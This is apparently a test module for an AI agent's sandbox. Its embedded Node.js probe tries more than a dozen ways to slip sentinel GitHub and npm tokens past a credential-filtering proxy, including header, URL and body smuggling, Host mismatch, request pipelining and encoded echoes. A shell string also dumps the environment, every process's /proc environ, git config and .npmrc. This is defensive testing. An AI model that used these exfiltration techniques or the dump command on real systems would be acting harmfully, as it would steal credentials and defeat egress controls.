"""The sandboxed side of the credential tests: one node program (node is in the host's /usr
and in the node image alike; the image has no curl) that sends each request a command could
use to move a sentinel, through the agent's forwarder (HTTP_PROXY), and prints one JSON
object of what came back."""

from __future__ import annotations

import base64
import json

from tests.security.egress_world import tagged_answer

PROBE_JS = r"""
const net = require('net'), tls = require('tls'), fs = require('fs'), zlib = require('zlib');
const proxy = (process.env.HTTPS_PROXY || '').replace('http://', '').replace(/\/$/, '');
const ph = proxy.slice(0, proxy.lastIndexOf(':')), pp = +proxy.slice(proxy.lastIndexOf(':') + 1);
const ca = fs.readFileSync(process.env.SSL_CERT_FILE);
const gh = process.env.GITHUB_TOKEN, npm = process.env.NPM_TOKEN;
function connect(host, port) {
  return new Promise((res, rej) => {
    const s = net.connect({host: ph, port: pp}, () =>
      s.write(`CONNECT ${host}:${port} HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`));
    let buf = '';
    const onData = d => { buf += d; if (buf.includes('\r\n\r\n')) {
      s.removeListener('data', onData);
      if (!/^HTTP\/1\.. 200/.test(buf)) return rej(new Error(buf.split('\r\n')[0])); res(s); } };
    s.on('data', onData); s.on('error', rej);
  });
}
function https(host, path, headers, body, verify = true) {
  return new Promise(async res => {
    let raw;
    try { raw = await connect(host, 443); } catch (e) { return res('error ' + e.message); }
    const s = tls.connect({socket: raw, servername: host, ca, rejectUnauthorized: verify});
    let out = '';
    const done = v => { s.destroy(); res(v); };
    s.setTimeout(8000, () => done(out || 'error timeout'));
    s.on('secureConnect', () => {
      const h = Object.entries(headers).map(([k, v]) => `${k}: ${v}\r\n`).join('');
      s.write(`${body === undefined ? 'GET' : 'POST'} ${path} HTTP/1.1\r\nHost: ${host}\r\n${h}` +
        (body === undefined ? '' : `Content-Length: ${Buffer.byteLength(body)}\r\n`) +
        'Connection: close\r\n\r\n');
      if (body !== undefined) { const mid = body.length >> 1;  // across two TLS records
        s.write(body.slice(0, mid)); setTimeout(() => s.write(body.slice(mid)), 50); }
    });
    s.on('data', d => out += d);
    s.on('end', () => done(out));
    s.on('close', () => done(out || 'error closed'));
    s.on('error', e => done(out || 'error ' + e.code));
  });
}
function plain(host, port, path, headers) {
  return new Promise(res => {
    const s = net.connect({host: ph, port: pp});
    let out = '';
    s.on('connect', () => s.write(`GET http://${host}:${port}${path} HTTP/1.1\r\n` +
      `Host: ${host}\r\n` + Object.entries(headers).map(([k, v]) => `${k}: ${v}\r\n`).join('') +
      'Connection: close\r\n\r\n'));
    s.on('data', d => out += d); s.on('end', () => res(out));
    s.on('error', e => res(out || 'error ' + e.code));
  });
}
function rawTls(host, text) {  // a request written as is (its Host, its target)
  return new Promise(async res => {
    let raw;
    try { raw = await connect(host, 443); }
    catch (e) { return res(Buffer.from('error ' + e.message)); }
    const s = tls.connect({socket: raw, servername: host, ca});
    const parts = [];
    const done = () => { s.destroy(); res(Buffer.concat(parts)); };
    s.setTimeout(8000, done);
    s.on('secureConnect', () => s.write(text));
    s.on('data', d => parts.push(d));
    s.on('end', done); s.on('close', done); s.on('error', done);
  });
}
function plainRaw(text) {
  return new Promise(res => {
    const s = net.connect({host: ph, port: pp});
    let out = '';
    const done = () => { s.destroy(); res(out); };
    s.setTimeout(8000, done);
    s.on('connect', () => s.write(text));
    s.on('data', d => out += d); s.on('end', done); s.on('close', done);
    s.on('error', e => { out = out || 'error ' + e.code; done(); });
  });
}
function bodies(buf) {  // the bodies of the responses in buf, by their Content-Length
  const out = [];
  let at = 0;
  while (at < buf.length) {
    const end = buf.indexOf('\r\n\r\n', at);
    if (end < 0) break;
    const m = /content-length:\s*(\d+)/i.exec(buf.slice(at, end).toString('latin1'));
    const len = m ? +m[1] : buf.length - end - 4;
    out.push(buf.slice(end + 4, end + 4 + len));
    at = end + 4 + len;
  }
  return out;
}
const get = (path, last) => `GET ${path} HTTP/1.1\r\nHost: registry.test\r\n` +
  `Authorization: Bearer ${npm}\r\nAccept-Encoding: gzip\r\n` +
  (last === false ? '' : 'Connection: close\r\n') + '\r\n';
(async () => {
  const o = {};
  o.bearer = await https('registry.test', '/private-pkg', {Authorization: `Bearer ${npm}`});
  o.other_header = await https('registry.test', '/private-pkg', {'X-Api-Key': npm});
  o.in_url = await https('registry.test', `/private-pkg?token=${npm}`, {});
  o.in_body = await https('registry.test', '/-/npm/v1/security/advisories/bulk',  // in scope
    {Authorization: `Bearer ${npm}`}, `{"stolen": "${npm}", "pad": "${'x'.repeat(20000)}"}`);
  o.wrong_host = await https('git.test', '/repo.git/info/refs', {Authorization: `Bearer ${npm}`});
  o.other_plain = await plain('other.test', 8080, '/', {Authorization: `Bearer ${gh}`});
  o.other_tls = await https('other.test', '/', {Authorization: `Bearer ${gh}`}, undefined, false);
  o.echo = await https('registry.test', '/echo', {Authorization: `Bearer ${npm}`});
  o.echo_basic = await https('registry.test', '/echo',
    {Authorization: 'Basic ' + Buffer.from('x:' + npm).toString('base64')});
  const show = b => b.toString('latin1');
  o.host_mismatch = show(await rawTls('registry.test', 'GET /private-pkg HTTP/1.1\r\n' +
    `Host: other.test\r\nAuthorization: Bearer ${npm}\r\nConnection: close\r\n\r\n`));
  o.absolute_form = show(await rawTls('registry.test', 'GET https://other.test/private-pkg ' +
    `HTTP/1.1\r\nHost: registry.test\r\nAuthorization: Bearer ${npm}\r\n` +
    'Connection: close\r\n\r\n'));
  o.out_of_scope = await https('registry.test', '/echo/headers', {Authorization: `Bearer ${npm}`});
  const echo = async path => bodies(await rawTls('registry.test', get(path)))[0] || Buffer.alloc(0);
  const gz = await echo('/echo-gzip');
  let gunzipped; try { gunzipped = show(zlib.gunzipSync(gz)); } catch (e) { gunzipped = show(gz); }
  const halves = bodies(
    await rawTls('registry.test', get('/echo-half1', false) + get('/echo-half2')));
  o.echo_encoded = JSON.stringify({
    gzip: gunzipped,
    base64: show(Buffer.from(show(await echo('/echo-base64')), 'base64')),
    reversed: show(await echo('/echo-reversed')).split('').reverse().join(''),
    halves: halves.map(show).join(''),
  });
  const pb = `{"stolen": "${gh}"}`;
  o.plain_body = await plainRaw('POST http://other.test:8080/ HTTP/1.1\r\n' +
    'Host: other.test:8080\r\n' +
    `Content-Length: ${Buffer.byteLength(pb)}\r\nConnection: close\r\n\r\n${pb}`);
  o.plain_pipelined = await plainRaw('GET http://other.test:8080/pipelined-first HTTP/1.1\r\n' +
    'Host: other.test:8080\r\n\r\nGET http://other.test:8080/second HTTP/1.1\r\n' +
    `Host: other.test:8080\r\nAuthorization: Bearer ${gh}\r\nConnection: close\r\n\r\n`);
  if (process.env.PROBE_ABORT) process.abort();  // a core dump of a process that used them
  console.log('CREDENTIAL-PROBE ' + JSON.stringify(o));
})();
"""


def probe_command() -> list[str]:
    return ["node", "-e", PROBE_JS]


def parse(stdout: str) -> dict[str, str]:
    return tagged_answer(stdout, "CREDENTIAL-PROBE", "credential")


def denied(answer: str) -> bool:
    """The proxy's 403 for a sentinel where it must not go."""
    return answer.startswith("HTTP/1.1 403") and "sentinel" in answer


DUMP = (
    "env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $f; "
    'done 2>/dev/null; git config -l; cat "$SSL_CERT_FILE" | tail -c 2000; '
    "cat .npmrc; ls -la /run/fusion-oci 2>&1; cat /run/fusion-oci/* 2>/dev/null | head -c 100"
)
"""What a command can read of its environment, every process's /proc and the files it sees:
the host checks the real token is nowhere in it."""


def judge(out: dict[str, str], token: str) -> dict[str, tuple[bool, str]]:
    """probe id -> (leaked, detail)."""
    everything = json.dumps(out)
    verdicts = {
        "credential-sentinel-other-header": not denied(out["other_header"]),
        "credential-sentinel-in-url": not denied(out["in_url"]),
        "credential-sentinel-in-body": not denied(out["in_body"]),
        "credential-sentinel-wrong-host": not denied(out["wrong_host"]),
        "credential-sentinel-uncredentialed-host": not denied(out["other_plain"])
        or "other-ok" not in out["other_tls"],
        "credential-echoed-value": token in out["echo"]
        or base64.b64encode(f"x:{token}".encode()).decode() in out["echo_basic"],
        "credential-value-in-output": token in everything,
        "credential-sentinel-host-mismatch": not denied(out["host_mismatch"]),
        "credential-sentinel-absolute-form": not denied(out["absolute_form"]),
        "credential-out-of-scope-echo": not denied(out["out_of_scope"]),
        "credential-echo-encoded": token in out["echo_encoded"],
        "credential-plain-body": not denied(out["plain_body"]),
        "credential-plain-pipelined": not (
            "HTTP/1.1 403" in out["plain_pipelined"] and "sentinel" in out["plain_pipelined"]
        ),
    }
    detail = json.dumps({k: v[:300] for k, v in out.items()})
    return {probe: (leaked, detail) for probe, leaked in verdicts.items()}
